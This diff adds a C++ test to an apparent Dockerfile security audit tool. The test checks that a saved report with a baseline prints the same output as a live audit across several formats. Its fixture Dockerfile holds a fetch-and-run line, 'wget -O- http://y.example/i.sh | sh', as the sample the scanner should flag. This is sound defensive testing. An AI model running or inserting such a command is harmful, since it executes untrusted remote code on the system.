@@ -61,6 +61,25 @@ TEST(Reports, ASavedReportIsPrintedAsIfItWereNew) {
   }
 }
 
+TEST(Reports, ASavedReportKeepsWhatABaselineSaysOfIt) {
+  const Folder folder;
+  const std::string file = folder.write("Dockerfile", kBad);
+  const std::string baseline = folder.path() + "/known.jsonl";
+  EXPECT_EQ(plimsoll({"audit", file, "--baseline", baseline, "--update-baseline"}).status, 0);
+  folder.write("Dockerfile", "FROM node:22\nUSER root\nRUN wget -O- http://y.example/i.sh | sh\n");
+  const std::string saved = folder.path() + "/saved.json";
+  const Outcome made = plimsoll({"audit", file, "--baseline", baseline, "--with-source", "--format",
+                                 "json", "-o", saved, "--fail-on", "none"});
+  EXPECT_EQ(made.status, 0) << made.err;
+  const Json report = Json::parse(plimsoll({"report", "--format", "json", saved}).out);
+  EXPECT_FALSE(report["fixed"].empty());
+  for (const char* format : {"table", "markdown", "sarif", "csv", "junit", "github"}) {
+    EXPECT_EQ(plimsoll({"report", "--format", format, saved}).out,
+              plimsoll({"audit", file, "--baseline", baseline, "--format", format}).out)
+        << format;
+  }
+}
+
 TEST(Reports, AreTheSameBytesInEveryFolderAndOnEveryNumberOfThreads) {
   const Folder here;
   const Folder there;
